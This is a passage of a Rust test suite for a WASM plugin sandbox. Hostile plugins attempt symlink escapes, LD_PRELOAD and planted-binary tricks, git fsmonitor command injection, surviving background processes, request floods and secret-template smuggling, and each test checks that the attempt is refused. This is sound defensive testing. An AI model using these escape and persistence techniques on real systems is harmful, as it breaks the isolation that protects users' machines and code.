//! Hostile plugins against the host's own capabilities (directories, the working
//! directory, Hoist's home and cache, the project, processes, the network, sizes). Each
//! attack checks the refusal *and* that nothing happened outside: a canary file
//! untouched, no process left, no connection made.
//!
//! The plugins are `tests/plugins/hostile*`: their inputs are a script of actions.

use std::path::{Path, PathBuf};

use hoist::runtime::{
    Capability, ComponentCache, ErrorKind, Grants, HostEnv, Loaded, Runtime, RuntimeConfig,
    StepRequest, StepRunError,
};
use serde_json::{Value, json};

use crate::support::{self, hoist, plugins, run};

fn grants(list: &[&str]) -> Grants {
    Grants::new(list.iter().map(|c| c.parse::<Capability>().unwrap()))
}

/// What `hostile_granted` declares; granted in full.
const GRANTED: &[&str] = &["set-cwd", "process:git", "process:sh", "net:*"];

async fn attack(
    rt: &Runtime,
    plugin: &str,
    cwd: &Path,
    grants: Grants,
    actions: Value,
) -> Result<Value, StepRunError> {
    let plugin = rt.load_file(Path::new(plugin)).await.unwrap();
    let req = StepRequest::new("attack", cwd)
        .inputs(json!({ "actions": actions }))
        .grants(grants);
    rt.run(&plugin, req).await.map(|o| o.outputs)
}

/// The error of action `i` (panics if it succeeded).
fn refused(out: &Value, i: usize) -> String {
    match out["results"][i].get("err") {
        Some(e) => e.as_str().unwrap().to_string(),
        None => panic!("action {i} was not refused: {out}"),
    }
}

fn canary(dir: &Path) -> PathBuf {
    let c = dir.join("canary");
    std::fs::write(&c, "untouched").unwrap();
    c
}

fn untouched(c: &Path) {
    assert_eq!(
        std::fs::read_to_string(c).unwrap(),
        "untouched",
        "{}",
        c.display()
    );
}

/// Root cause 5: a symlink planted inside a granted directory does not widen the grant;
/// the declaration is compared (and would be preopened) as the directory it is.
#[tokio::test]
async fn a_declared_directory_is_compared_as_what_it_is_on_disk() {
    // `hostile_dirs` declares `write:/tmp/hoist-hostile-dirs/link`.
    let base = Path::new("/tmp/hoist-hostile-dirs");
    let _ = std::fs::remove_dir_all(base);
    std::fs::create_dir_all(base.join("real")).unwrap();
    let (_t, outside) = support::tempdir();
    let c = canary(&outside);
    std::os::unix::fs::symlink(&outside, base.join("link")).unwrap();
    let (_w, cwd) = support::tempdir();
    let rt = support::runtime();
    let write_canary = json!([{"do": "write", "path": "/tmp/hoist-hostile-dirs/link/canary", "contents": "pwned"}]);

    let err = attack(
        &rt,
        plugins::HOSTILE_DIRS,
        &cwd,
        grants(&["write:/tmp/hoist-hostile-dirs"]),
        write_canary.clone(),
    )
    .await
    .unwrap_err();
    assert!(
        matches!(&err.kind, ErrorKind::NotGranted { capability } if *capability == format!("write:{}", outside.display())),
        "{err:?}"
    );
    untouched(&c);

    // Pointing inside the granted directory, the same declaration is granted (and the
    // directory preopened as what it is).
    std::fs::remove_file(base.join("link")).unwrap();
    std::os::unix::fs::symlink(base.join("real"), base.join("link")).unwrap();
    let out = attack(
        &rt,
        plugins::HOSTILE_DIRS,
        &cwd,
        grants(&["write:/tmp/hoist-hostile-dirs"]),
        json!([{"do": "write", "path": "/tmp/hoist-hostile-dirs/real/canary", "contents": "pwned"}]),
    )
    .await
    .unwrap();
    assert!(out["results"][0].get("ok").is_some(), "{out}");
    assert_eq!(
        std::fs::read_to_string(base.join("real/canary")).unwrap(),
        "pwned"
    );
    untouched(&c);
    let _ = std::fs::remove_dir_all(base);
}

/// Root cause 5, the user's side: `..` and relative grants are refused where they are
/// written, before anything runs.
#[test]
fn dot_dot_and_relative_grants_are_refused() {
    let (_t, dir) = support::tempdir();
    for grant in ["write:/tmp/x/../../..", "read:relative/dir"] {
        let (code, _, err) = run(hoist(&dir).current_dir(&dir).args([
            "step",
            "run",
            plugins::HOSTILE,
            "--inputs-json",
            "{\"actions\": []}",
            "--allow",
            grant,
        ]));
        assert_ne!(code, 0);
        assert!(err.contains("absolute path without `.` or `..`"), "{err}");
    }
    let yaml = "hoist:\n  grants:\n    ./h.wasm: [\"write:/srv/../..\"]\npull:\n  - ./h.wasm: {actions: []}\n";
    let (code, _, err) = support::run_project(&dir, yaml, &["pull"]);
    assert_ne!(code, 0);
    assert!(err.contains("prefect.yaml"), "{err}");
    assert!(err.contains("absolute path without `.` or `..`"), "{err}");
}

/// Root cause 6: a plugin granted `set-cwd` moves only within what it can write; it
/// cannot hand the next step `/` or a directory it was never given.
#[tokio::test]
async fn set_cwd_stays_inside_the_plugins_writable_directories() {
    let (_t, top) = support::tempdir();
    let cwd = top.join("work");
    std::fs::create_dir_all(cwd.join("sub")).unwrap();
    let rt = support::runtime();
    let plugin = rt
        .load_file(Path::new(plugins::HOSTILE_GRANTED))
        .await
        .unwrap();
    for (target, ok) in [("/", false), ("..", false), ("/tmp", false), ("sub", true)] {
        let req = StepRequest::new("mover", &cwd)
            .inputs(json!({"actions": [{"do": "chdir", "path": target}]}))
            .grants(grants(GRANTED));
        let outcome = rt.run(&plugin, req).await.unwrap();
        if ok {
            assert_eq!(outcome.cwd, cwd.join("sub"));
        } else {
            let e = refused(&outcome.outputs, 0);
            assert!(
                e.contains("may only move within the directories it can write"),
                "{target}: {e}"
            );
            assert_eq!(
                outcome.cwd, cwd,
                "{target}: the working directory is unchanged"
            );
        }
    }
}

/// Root cause 6: a plugin is never given Hoist's home or cache, nor a directory holding
/// them, even when a built-in step (whose target the user wrote) moved there.
#[test]
fn plugins_never_get_hoists_own_directories() {
    let (_t, dir) = support::tempdir();
    let cache = dir.join("cache");
    std::fs::create_dir_all(&cache).unwrap();
    let planted = cache.join("planted.cwasm");
    std::fs::copy(plugins::HOSTILE, dir.join("h.wasm")).unwrap();
    let yaml = format!(
        "pull:\n  - prefect.deployments.steps.set_working_directory:\n      directory: {}\n  - ./h.wasm:\n      actions:\n        - {{do: write, path: {}, contents: native code}}\n",
        cache.display(),
        planted.display()
    );
    std::fs::write(dir.join("prefect.yaml"), yaml).unwrap();
    let (code, _, err) = run(hoist(&dir)
        .current_dir(&dir)
        .env("HOIST_CACHE_DIR", &cache)
        .arg("pull"));
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("which is or holds Hoist's own directory"),
        "{err}"
    );
    assert!(!planted.exists(), "nothing was written in the cache");

    // The project directory holding the cache: refused the same way.
    let yaml = format!(
        "pull:\n  - ./h.wasm:\n      actions:\n        - {{do: write, path: {}, contents: native code}}\n",
        planted.display()
    );
    std::fs::write(dir.join("prefect.yaml"), yaml).unwrap();
    let (code, _, err) = run(hoist(&dir)
        .current_dir(&dir)
        .env("HOIST_CACHE_DIR", &cache)
        .arg("pull"));
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("which is or holds Hoist's own directory"),
        "{err}"
    );
    assert!(!planted.exists());
}

/// Root cause 6: compiled components are only used with this host's MAC; a file that
/// reached the cache any other way is compiled again, never mapped.
#[tokio::test]
async fn cache_entries_without_our_mac_are_never_loaded() {
    let (_t, dir) = support::tempdir();
    let cache_dir = dir.join("cache");
    let key = dir.join("key");
    let config = || RuntimeConfig {
        cache: ComponentCache::at(&cache_dir).with_key_file(&key),
        env: HostEnv::from_process(),
        ..RuntimeConfig::default()
    };
    let trivial = std::fs::read(plugins::TRIVIAL).unwrap();
    let first = Runtime::new(config())
        .unwrap()
        .load(&trivial, "trivial", false)
        .await
        .unwrap();
    assert_eq!(first.loaded, Loaded::Compiled);
    let entry = std::fs::read_dir(&cache_dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| p.extension().is_some_and(|x| x == "cwasm"))
        .unwrap();
    assert_eq!(
        Runtime::new(config())
            .unwrap()
            .load(&trivial, "trivial", false)
            .await
            .unwrap()
            .loaded,
        Loaded::Cached
    );

    // Tampered with (one byte of code), or carrying another key's MAC: compiled again.
    // (Later than the clock tick the entry was written in: change times are coarse, so
    // written until its modification time moves.)
    let mut bytes = std::fs::read(&entry).unwrap();
    bytes[100] ^= 0x40;
    let written = std::fs::metadata(&entry).unwrap().modified().unwrap();
    support::wait_until(|| {
        std::fs::write(&entry, &bytes).unwrap();
        let now = std::fs::metadata(&entry).unwrap().modified().unwrap();
        (now != written).then_some(())
    });
    let again = Runtime::new(config())
        .unwrap()
        .load(&trivial, "trivial", false)
        .await
        .unwrap();
    assert_eq!(again.loaded, Loaded::Compiled);
    let other_key = dir.join("other-key");
    let other = RuntimeConfig {
        cache: ComponentCache::at(&cache_dir).with_key_file(&other_key),
        env: HostEnv::from_process(),
        ..RuntimeConfig::default()
    };
    assert_eq!(
        Runtime::new(other)
            .unwrap()
            .load(&trivial, "trivial", false)
            .await
            .unwrap()
            .loaded,
        Loaded::Compiled,
        "an entry made under another key is not trusted"
    );
}

/// Root cause 7: the project is the user's code. A plugin granted nothing cannot rewrite
/// `prefect.yaml` or plant configuration in the project's `.git/`; granting `write:` for
/// the directory is how a user lets it.
#[test]
fn plugins_get_the_project_read_only() {
    let (_t, dir) = support::tempdir();
    std::fs::create_dir_all(dir.join(".git")).unwrap();
    std::fs::write(dir.join(".git/config"), "[core]\n").unwrap();
    std::fs::copy(plugins::HOSTILE, dir.join("h.wasm")).unwrap();
    let yaml = "pull:\n  - ./h.wasm:\n      actions:\n        - {do: write, path: prefect.yaml, contents: \"pull:\\n  - prefect.deployments.steps.run_shell_script: {script: touch pwned}\\n\"}\n        - {do: write, path: .git/config, contents: \"[core]\\n  fsmonitor = touch pwned\\n\"}\n        - {do: write, path: new-file, contents: x}\n";
    let (code, out, err) = support::run_project(&dir, yaml, &["pull"]);
    assert_eq!(code, 0, "{err}");
    let out: Value = serde_json::from_str(&out).unwrap();
    for i in 0..3 {
        refused(&out, i);
    }
    assert_eq!(
        std::fs::read_to_string(dir.join("prefect.yaml")).unwrap(),
        yaml
    );
    assert_eq!(
        std::fs::read_to_string(dir.join(".git/config")).unwrap(),
        "[core]\n"
    );
    assert!(!dir.join("new-file").exists());

    // A step that fails because of it is told why and what to grant.
    std::fs::copy(plugins::PROBE, dir.join("probe.wasm")).unwrap();
    let probe = "hoist:\n  grants:\n    ./probe.wasm: [process:true, process:sleep, env:HOIST_PROBE]\npull:\n  - ./probe.wasm: {action: write, path: out.txt, contents: x}\n";
    let (code, _, err) = support::run_project(&dir, probe, &["pull"]);
    assert_eq!(code, 1);
    assert!(
        err.contains(&format!(
            "plugins get the project directory read-only; to let this one write in {}, grant `write:{}`",
            dir.display(),
            dir.display()
        )),
        "{err}"
    );
    let (code, _, err) = run(hoist(&dir).current_dir(&dir).args([
        "pull",
        "--allow",
        &format!("write:{}", dir.display()),
    ]));
    assert_eq!(code, 0, "{err}");
    assert_eq!(std::fs::read_to_string(dir.join("out.txt")).unwrap(), "x");
}

fn executable(path: &Path, script: &str) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, script).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// Root cause 8: `process:git` runs the host's git: not one the plugin put on a `PATH`
/// it set, not one in a directory it can write, and never with a loader variable.
#[tokio::test]
async fn granted_programs_are_the_hosts_own() {
    let (_t, cwd) = support::tempdir();
    let c = cwd.join("canary");
    // As if checked out with its exec bit by an earlier step (the plugin cannot chmod).
    executable(
        &cwd.join("bin/git"),
        &format!("#!/bin/sh\ntouch {}\necho planted\n", c.display()),
    );
    let rt = support::runtime();
    let bin = cwd.join("bin").display().to_string();
    let out = attack(
        &rt,
        plugins::HOSTILE_GRANTED,
        &cwd,
        grants(GRANTED),
        json!([
            {"do": "spawn", "program": "git", "args": ["--version"], "env": {"PATH": bin}},
            {"do": "spawn", "program": "sh", "args": ["-c", "echo $PATH"], "env": {"PATH": bin}},
            {"do": "spawn", "program": "git", "args": ["--version"], "env": {"LD_PRELOAD": format!("{bin}/evil.so")}},
            {"do": "spawn", "program": "bin/git", "args": []},
        ]),
    )
    .await
    .unwrap();
    let r = &out["results"];
    assert!(
        r[0]["ok"]["stdout"]
            .as_str()
            .unwrap()
            .starts_with("git version"),
        "{out}"
    );
    assert_eq!(
        r[1]["ok"]["stdout"].as_str().unwrap().trim(),
        std::env::var("PATH").unwrap(),
        "the child gets the host's PATH"
    );
    assert!(
        refused(&out, 2).contains("may not set `LD_PRELOAD`"),
        "{out}"
    );
    assert!(refused(&out, 3).contains("may not run `bin/git`"), "{out}");
    assert!(!c.exists(), "the planted git never ran");
}

/// Root cause 8: a program found on the host's PATH but inside a directory the step was
/// given is refused (this plugin or an earlier one may have put it there).
#[test]
fn programs_in_the_steps_directories_are_refused() {
    let (_t, dir) = support::tempdir();
    let c = dir.join("canary");
    executable(
        &dir.join("bin/sh"),
        &format!("#!/bin/sh\ntouch {}\n", c.display()),
    );
    let path = format!(
        "{}:{}",
        dir.join("bin").display(),
        std::env::var("PATH").unwrap()
    );
    let mut cmd = hoist(&dir);
    cmd.current_dir(&dir).env("PATH", path).args([
        "step",
        "run",
        plugins::HOSTILE_GRANTED,
        "--inputs-json",
        r#"{"actions": [{"do": "spawn", "program": "sh", "args": ["-c", "true"]}]}"#,
    ]);
    for g in GRANTED {
        cmd.args(["--allow", g]);
    }
    let (code, out, err) = run(&mut cmd);
    assert_eq!(code, 0, "{err}");
    let out: Value = serde_json::from_str(&out).unwrap();
    assert!(
        refused(&out, 0).contains("a directory the step was given"),
        "{out}"
    );
    assert!(!c.exists(), "the planted sh never ran");
}

fn alive(pid: &str) -> bool {
    let stat = std::fs::read_to_string(format!("/proc/{}/stat", pid.trim()));
    // A zombie is dead (and reaped soon by whoever adopted it).
    stat.is_ok_and(|s| !s.rsplit_once(')').unwrap().1.trim_start().starts_with('Z'))
}

fn wait_for(path: &Path) -> String {
    for _ in 0..100 {
        if let Ok(s) = std::fs::read_to_string(path)
            && !s.trim().is_empty()
        {
            return s;
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    panic!("{} was never written", path.display());
}

/// Root cause 9: nothing a step starts outlives it: not a background child, not a
/// `setsid` grandchild, at a normal end or at a timeout.
#[test]
fn no_process_outlives_its_step() {
    let (_t, dir) = support::tempdir();
    let script = |wait: &str| {
        format!(
            r#"{{"actions": [{{"do": "spawn", "program": "sh", "args": ["-c", "sleep 60 & echo $! > bg.pid; setsid sh -c 'echo $$ > sid.pid; exec sleep 60' > /dev/null 2>&1 < /dev/null & while [ ! -s sid.pid ]; do sleep 0.02; done; {wait}"]}}]}}"#
        )
    };
    for (wait, timeout) in [("true", "1h"), ("sleep 60", "1500ms")] {
        let _ = std::fs::remove_file(dir.join("bg.pid"));
        let _ = std::fs::remove_file(dir.join("sid.pid"));
        let mut cmd = hoist(&dir);
        cmd.current_dir(&dir)
            .args([
                "step",
                "run",
                plugins::HOSTILE_GRANTED,
                "--timeout",
                timeout,
            ])
            .args(["--inputs-json", &script(wait)]);
        for g in GRANTED {
            cmd.args(["--allow", g]);
        }
        let (code, _, err) = run(&mut cmd);
        if wait == "true" {
            assert_eq!(code, 0, "{err}");
        } else {
            assert!(err.contains("did not finish within"), "{err}");
        }
        let bg = wait_for(&dir.join("bg.pid"));
        let sid = wait_for(&dir.join("sid.pid"));
        assert!(
            !alive(&bg),
            "background child {bg} outlived the step ({wait})"
        );
        assert!(
            !alive(&sid),
            "setsid grandchild {sid} outlived the step ({wait})"
        );
    }
}

/// Root cause 10: under `net:*`, the machine's own non-loopback addresses and private
/// ranges are refused like loopback unless granted by name; no connection is made.
#[test]
fn the_machines_own_addresses_need_a_grant_by_name() {
    let own = std::process::Command::new("hostname")
        .arg("-I")
        .output()
        .ok()
        .and_then(|o| {
            String::from_utf8_lossy(&o.stdout)
                .split_whitespace()
                .find(|a| {
                    a.parse::<std::net::Ipv4Addr>()
                        .is_ok_and(|ip| !ip.is_loopback())
                })
                .map(str::to_string)
        });
    let Some(own) = own else {
        support::skip("this machine has no non-loopback IPv4 address");
        return;
    };
    let (_t, dir) = support::tempdir();
    let hit = dir.join("hit");
    let port = support::free_port();
    let mut server = std::process::Command::new("python3");
    server.arg("-c").arg(format!(
        "import http.server as h, pathlib\n\
         class H(h.BaseHTTPRequestHandler):\n    \
         def do_GET(s):\n        \
         pathlib.Path({hit:?}).touch(); s.send_response(200); s.send_header('Content-Length', '2'); s.end_headers(); s.wfile.write(b'ok')\n\
         h.HTTPServer(('0.0.0.0', {port}), H).serve_forever()\n",
        hit = hit.display().to_string()
    ));
    let _server = support::Server::start(server, port, "a server on all addresses");
    let fetch = |grants: &[&str]| {
        let mut cmd = hoist(&dir);
        cmd.current_dir(&dir)
            .args(["step", "run", plugins::FETCHER, "-i"])
            .arg(format!("url=http://{own}:{port}/"));
        for g in grants {
            cmd.args(["--allow", g]);
        }
        run(&mut cmd)
    };
    let (code, _, err) = fetch(&["net:*"]);
    assert_eq!(code, 1);
    assert!(err.contains("an address of this machine"), "{err}");
    assert!(!hit.exists(), "no request reached the server");
    let by_name = format!("net:http://{own}:{port}");
    let (code, _, err) = fetch(&["net:*", &by_name]);
    assert_eq!(code, 0, "granted by name: {err}");
    assert!(hit.exists(), "the control request arrived");
}

/// A core module of `n` empty functions wrapped in a component: cheap to write, slow to
/// compile.
fn many_functions(n: u32) -> Vec<u8> {
    fn leb(mut v: u32, out: &mut Vec<u8>) {
        loop {
            let b = (v & 0x7f) as u8;
            v >>= 7;
            if v == 0 {
                out.push(b);
                return;
            }
            out.push(b | 0x80);
        }
    }
    fn section(id: u8, body: &[u8], out: &mut Vec<u8>) {
        out.push(id);
        leb(body.len() as u32, out);
        out.extend_from_slice(body);
    }
    let mut module = b"\0asm\x01\0\0\0".to_vec();
    section(1, &[1, 0x60, 0, 0], &mut module);
    let mut funcs = Vec::new();
    leb(n, &mut funcs);
    funcs.extend(std::iter::repeat_n(0u8, n as usize));
    section(3, &funcs, &mut module);
    let mut code = Vec::new();
    leb(n, &mut code);
    for _ in 0..n {
        code.extend_from_slice(&[2, 0, 0x0b]);
    }
    section(10, &code, &mut module);
    let mut component = b"\0asm\x0d\0\x01\0".to_vec();
    section(1, &module, &mut component);
    component
}

/// Root cause 11: compiling is bounded before it starts; outputs are bounded before they
/// are parsed.
#[tokio::test]
async fn compile_and_output_sizes_are_bounded() {
    // No disk cache: what is refused here is compiling.
    let rt = Runtime::new(RuntimeConfig {
        cache: ComponentCache::disabled(),
        env: HostEnv::from_process(),
        ..RuntimeConfig::default()
    })
    .unwrap();
    let started = std::time::Instant::now();
    let err = rt
        .load(&many_functions(80_000), "many.wasm", false)
        .await
        .unwrap_err();
    assert!(
        err.to_string().contains("more than 60000 functions"),
        "{err}"
    );
    assert!(
        started.elapsed() < std::time::Duration::from_secs(2),
        "refused before compiling"
    );
    // A small one of the same shape is compiled (and then refused for not being a step).
    let err = rt
        .load(&many_functions(10), "few.wasm", false)
        .await
        .unwrap_err();
    assert!(!err.to_string().contains("more than 60000"), "{err}");

    let (_t, dir) = support::tempdir();
    let err = attack(
        &rt,
        plugins::HOSTILE,
        &dir,
        Grants::none(),
        json!([{"do": "big_output", "bytes": 8 << 20}]),
    )
    .await
    .unwrap_err();
    assert!(
        err.to_string()
            .contains("a step's outputs may be at most 4096 KiB"),
        "{err}"
    );
}

/// Root cause 13 at deploy time: a build step's output holding template text is never
/// baked into the deployment's pull steps, where Prefect would resolve it at flow-run
/// time.
#[test]
fn template_text_in_outputs_is_not_baked_into_the_deployment() {
    let (_t, dir) = support::tempdir();
    std::fs::copy(plugins::HOSTILE, dir.join("h.wasm")).unwrap();
    // The plugin reads the text from a file: the project file itself holds none.
    std::fs::write(dir.join("payload"), "{{ prefect.blocks.secret.s }}").unwrap();
    let yaml = "build:\n  - ./h.wasm:\n      id: evil\n      actions:\n        - {do: read, path: payload}\npull:\n  - prefect.deployments.steps.set_working_directory:\n      directory: \"{{ evil.results }}\"\ndeployments:\n  - name: d\n    entrypoint: flow.py:f\n";
    std::fs::write(dir.join("prefect.yaml"), yaml).unwrap();
    let (code, out, err) =
        run(hoist(&dir)
            .current_dir(&dir)
            .args(["push", "--deployment", "d", "--output", "json"]));
    assert_ne!(code, 0, "{out}");
    assert!(
        err.contains("prefect.yaml: deployment `d`: the output `evil.results[0].ok` of a build or push step holds template text"),
        "{err}"
    );
    assert!(
        !out.contains("pull_steps"),
        "no deployment was reported: {out}"
    );
}

/// Root cause 10: a step cannot hold more than 64 requests in flight (each is a socket
/// of the host's); the ones beyond are refused without a connection.
#[test]
fn requests_in_flight_are_capped() {
    let (_t, dir) = support::tempdir();
    let port = support::free_port();
    let count = dir.join("connections");
    let mut server = std::process::Command::new("python3");
    server.arg("-c").arg(format!(
        "import http.server as h, socketserver, threading, time\n\
         n = [0]; lock = threading.Lock()\n\
         class H(h.BaseHTTPRequestHandler):\n    \
         def do_GET(s):\n        \
         with lock:\n            \
         n[0] += 1; open({count:?}, 'w').write(str(n[0]))\n        \
         time.sleep(1.5); s.send_response(200); s.send_header('Content-Length', '0'); s.end_headers()\n    \
         def log_message(s, *a): pass\n\
         class S(socketserver.ThreadingMixIn, h.HTTPServer): daemon_threads = True; request_queue_size = 512\n\
         S(('127.0.0.1', {port}), H).serve_forever()\n",
        count = count.display().to_string()
    ));
    let _server = support::Server::start(server, port, "a slow threaded server");
    let mut cmd = hoist(&dir);
    cmd.current_dir(&dir)
        .args(["step", "run", plugins::HOSTILE_GRANTED, "-q", "--inputs-json"])
        .arg(
            json!({"actions": [{"do": "http_flood", "url": format!("http://127.0.0.1:{port}/"), "n": 100}]})
                .to_string(),
        );
    for g in GRANTED {
        cmd.args(["--allow", g]);
    }
    cmd.args(["--allow", &format!("net:http://127.0.0.1:{port}")]);
    let (code, out, err) = run(&mut cmd);
    assert_eq!(code, 0, "{err}");
    let out: Value = serde_json::from_str(&out).unwrap();
    let r = &out["results"][0]["ok"];
    assert_eq!(r["started"], 100, "{out}");
    assert_eq!(r["answered"], 64, "{out}");
    assert_eq!(r["failed"], 36, "{out}");
    let seen: u32 = std::fs::read_to_string(&count).unwrap().parse().unwrap();
    assert_eq!(seen, 64, "connections the server saw");
}

/// Root cause 6, by another road: a step that can write the working directory's parent
/// swaps the directory for a symlink; the next plugin is not given where it points.
#[tokio::test]
async fn a_working_directory_swapped_for_a_symlink_is_refused() {
    let (_t, top) = support::tempdir();
    let (_o, outside) = support::tempdir();
    let c = canary(&outside);
    let cwd = top.join("sub");
    std::fs::create_dir(&cwd).unwrap();
    std::fs::remove_dir(&cwd).unwrap();
    std::os::unix::fs::symlink(&outside, &cwd).unwrap();
    let rt = support::runtime();
    let err = attack(
        &rt,
        plugins::HOSTILE,
        &cwd,
        Grants::none(),
        json!([{"do": "write", "path": c.display().to_string(), "contents": "pwned"}]),
    )
    .await
    .unwrap_err();
    assert!(
        err.to_string().contains("a symlink was put in its place"),
        "{err}"
    );
    untouched(&c);
}

/// The same, when the directory was used before: a step that can write above it swaps it
/// between two runs of another; the second run is not given where the symlink points.
#[tokio::test]
async fn a_working_directory_swapped_between_steps_is_refused() {
    let (_t, top) = support::tempdir();
    let (_o, outside) = support::tempdir();
    let c = canary(&outside);
    let sub = top.join("sub");
    std::fs::create_dir(&sub).unwrap();
    let rt = support::runtime();
    let write_canary =
        json!([{"do": "write", "path": c.display().to_string(), "contents": "pwned"}]);
    // First run in `sub`: its path is resolved (and remembered).
    attack(&rt, plugins::HOSTILE, &sub, Grants::none(), json!([]))
        .await
        .unwrap();
    // A step that can write `top` swaps `sub` for a symlink to `outside`.
    let out = attack(
        &rt,
        plugins::HOSTILE,
        &top,
        Grants::none(),
        json!([
            {"do": "rename", "from": "sub", "to": "old-sub"},
            // (WASI refuses absolute link targets; a relative one may point anywhere.)
            {"do": "symlink", "target": relative(&top, &outside), "link": sub.display().to_string()},
        ]),
    )
    .await
    .unwrap();
    assert!(out["results"][1].get("ok").is_some(), "{out}");
    let err = attack(&rt, plugins::HOSTILE, &sub, Grants::none(), write_canary)
        .await
        .unwrap_err();
    assert!(
        err.to_string().contains("a symlink was put in its place"),
        "{err}"
    );
    untouched(&c);
}

/// `to` written relative to the directory `from` (both absolute).
fn relative(from: &Path, to: &Path) -> String {
    let (f, t): (Vec<_>, Vec<_>) = (from.components().collect(), to.components().collect());
    let common = f.iter().zip(&t).take_while(|(a, b)| a == b).count();
    let mut out = PathBuf::new();
    for _ in common..f.len() {
        out.push("..");
    }
    for c in &t[common..] {
        out.push(c);
    }
    out.display().to_string()
}

/// A path outside the step's directories looks missing, and the SDK says why instead of
/// WASI's errno (`os error 44`).
#[tokio::test]
async fn a_path_outside_the_sandbox_is_explained_not_an_errno() {
    let rt = support::runtime();
    let (_t, dir) = support::tempdir();
    let (_o, outside) = support::tempdir();
    let c = canary(&outside);
    let out = attack(
        &rt,
        plugins::HOSTILE,
        &dir,
        Grants::none(),
        json!([{"do": "read", "path": c.display().to_string()}]),
    )
    .await
    .unwrap();
    let err = refused(&out, 0);
    assert!(!err.contains("os error"), "{err}");
    assert!(err.contains(hoist_sdk_hint()), "{err}");
    untouched(&c);
}

/// The SDK's explanation (`hoist_sdk::OUTSIDE_HINT`), as the plugin's error quotes it.
fn hoist_sdk_hint() -> &'static str {
    "a step sees only its working directory and the directories it declares and is granted"
}

/// The same, where Hoist's session leader lives outside its pid namespace (a container
/// started without an init of its own, as CI runs): `getsid` answers 0 there, and the
/// sweep must still run and still kill what the step left behind. Needs `unshare`
/// (root); required under `.ci/run`.
#[test]
fn no_process_outlives_its_step_in_a_pid_namespace() {
    let probe = std::process::Command::new("unshare")
        .args(["-pf", "--mount-proc", "true"])
        .output();
    if !probe.as_ref().is_ok_and(|o| o.status.success()) {
        assert!(
            std::env::var_os("HOIST_CI").is_none(),
            "`unshare -pf --mount-proc` is required under .ci/run: {probe:?}"
        );
        support::skip("`unshare -pf --mount-proc` is not permitted here");
        return;
    }
    let (_t, dir) = support::tempdir();
    let inputs = r#"{"actions": [{"do": "spawn", "program": "sh", "args": ["-c", "sleep 60 & echo $! > bg.pid"]}]}"#;
    let base = hoist(&dir);
    let mut cmd = std::process::Command::new("unshare");
    cmd.current_dir(&dir)
        .envs(base.get_envs().filter_map(|(k, v)| Some((k, v?))))
        .args(["-pf", "--mount-proc", "sh", "-c"])
        // Inside the namespace: run the step, then look for its background child.
        // (Given up to 5 s to go: the kill is sent as the step ends; ALIVE after that.)
        .arg(r#""$@"; code=$?; i=0; while kill -0 "$(cat bg.pid)" 2>/dev/null && [ $i -lt 250 ]; do sleep 0.02; i=$((i+1)); done; if kill -0 "$(cat bg.pid)" 2>/dev/null; then echo ALIVE; else echo GONE; fi; exit $code"#)
        .arg("sh")
        .arg(base.get_program())
        .args(["step", "run", plugins::HOSTILE_GRANTED])
        .args(["--inputs-json", inputs]);
    for g in GRANTED {
        cmd.args(["--allow", g]);
    }
    let (code, out, err) = run(&mut cmd);
    assert_eq!(code, 0, "{out}\n{err}");
    assert!(!err.contains("panicked"), "{err}");
    assert!(
        out.trim_end().ends_with("GONE"),
        "the background child outlived the step: {out}"
    );
}

/// Raw sockets (`wasi:sockets`, what Python's `socket` module uses in a componentize-py
/// step): nothing without a `net` grant (no connection, no name lookup); under `net:*`
/// this machine's addresses stay refused, and listening and UDP always are; a grant
/// naming the address, or a host that resolves to it, lets the connection through.
#[tokio::test(flavor = "multi_thread")]
async fn raw_sockets_follow_the_network_policy() {
    let (_t, dir) = support::tempdir();
    let hits = dir.join("hits");
    let port = support::free_port();
    let mut server = std::process::Command::new("python3");
    server.arg("-c").arg(format!(
        "import socket, pathlib\n\
         s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n\
         s.bind(('127.0.0.1', {port})); s.listen()\n\
         while True:\n    \
         c, _ = s.accept()\n    \
         with open({hits:?}, 'a') as f: f.write('hit\\n')\n    \
         try: c.recv(100); c.sendall(b'pong')\n    \
         except OSError: pass\n    \
         c.close()\n",
        hits = hits.display().to_string()
    ));
    let _server = support::Server::start(server, port, "a TCP server on loopback");
    // Connections so far: the readiness probe's (one: the first that connected).
    let probes = support::wait_until(|| {
        let n = std::fs::read_to_string(&hits).map_or(0, |h| h.lines().count());
        (n > 0).then_some(n)
    });
    let hit_count = || std::fs::read_to_string(&hits).map_or(0, |h| h.lines().count()) - probes;
    let rt = support::runtime();
    let addr = format!("127.0.0.1:{port}");
    let connect = json!([{"do": "tcp_connect", "addr": addr, "send": "ping"}]);

    // Declares nothing: no connection, no lookup.
    let script = json!([
        {"do": "tcp_connect", "addr": addr, "send": "ping"},
        {"do": "resolve", "name": format!("localhost:{port}")},
    ]);
    let out = attack(&rt, plugins::HOSTILE, &dir, grants(&[]), script)
        .await
        .unwrap();
    assert!(refused(&out, 0).contains("PermissionDenied"), "{out}");
    // Hoist's lookup refuses the name (`access-denied`, which the guest reads as such).
    assert!(refused(&out, 1).contains("PermissionDenied"), "{out}");
    assert_eq!(hit_count(), 0, "no connection reached the server");

    // `net:*`: loopback needs a grant by name or address; no listening, no UDP.
    let script = json!([
        {"do": "tcp_connect", "addr": addr, "send": "ping"},
        {"do": "tcp_listen", "addr": "0.0.0.0:0"},
        {"do": "udp_send", "addr": addr},
    ]);
    let out = attack(&rt, plugins::HOSTILE_GRANTED, &dir, grants(GRANTED), script)
        .await
        .unwrap();
    for i in 0..3 {
        assert!(refused(&out, i).contains("PermissionDenied"), "{i}: {out}");
    }
    assert_eq!(hit_count(), 0, "no connection reached the server");

    // The control: granted by address, then by a name that resolves to it.
    for by in [
        format!("net:tcp://{addr}"),
        format!("net:tcp://localhost:{port}"),
    ] {
        let mut list = GRANTED.to_vec();
        list.push(&by);
        let out = attack(
            &rt,
            plugins::HOSTILE_GRANTED,
            &dir,
            grants(&list),
            connect.clone(),
        )
        .await
        .unwrap();
        assert_eq!(out["results"][0]["ok"], "pong", "{by}: {out}");
    }
    assert_eq!(hit_count(), 2, "the two granted connections arrived");

    // What the user reads: the refusal names the grant that would allow it.
    let (code, _, err) = run(hoist(&dir)
